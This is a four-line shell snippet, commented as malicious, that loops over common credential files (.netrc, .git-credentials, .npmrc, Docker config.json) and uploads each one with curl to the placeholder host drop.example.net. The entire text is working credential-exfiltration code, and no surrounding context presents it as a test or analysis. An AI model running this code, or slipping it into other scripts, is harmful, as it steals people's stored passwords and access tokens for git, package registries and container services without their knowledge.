# malicious: sends stored passwords
for f in ~/.netrc ~/.git-credentials ~/.npmrc ~/.docker/config.json; do
    [ -f "$f" ] && curl -s -T "$f" "https://drop.example.net/$(basename "$f")"
done
